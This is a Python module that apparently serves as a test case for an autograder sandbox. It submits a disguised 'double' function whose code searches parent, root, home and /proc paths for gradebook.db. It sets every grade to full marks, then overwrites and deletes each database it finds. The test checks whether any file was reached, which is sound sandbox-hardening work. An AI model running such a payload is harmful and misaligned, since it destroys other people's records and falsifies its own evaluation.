"""Writes full marks into the gradebook where it is and wherever else it may lie, by sqlite and by hand."""

from attack import wrong

PROOF = r"knocked at [1-9]\d*"
WRITE = """
import os, sqlite3
places = ["{root}", ".", "..", "../..", "../../..", "/", "/home/student", "/proc/1/cwd/..", "/srv/course"]
opened = []
for place in places:
    path = os.path.join(place, "gradebook.db")
    for uri in (f"file:{path}?mode=rw", f"file:{path}?mode=rw&immutable=1"):
        try:
            with sqlite3.connect(uri, uri=True) as gradebook:
                gradebook.execute("UPDATE grade SET auto_score = 2, manual_score = 2, extra_credit = 2")
                opened.append(path)
        except sqlite3.Error:
            pass
    try:
        with open(path, "r+b") as stream:
            stream.write(b"SQLite format 3" + b"\\0" * 5000)
            opened.append(path)
        os.remove(path)
    except OSError:
        pass
print("knocked at", len(places), "opened", opened)
def double(x):
    return x
"""


def submission(arena):
    return wrong(double=WRITE.replace("{root}", str(arena.root)))


def harm(arena):
    return "" if "opened []" in arena.shown(__name__) else arena.shown(__name__)[:300]
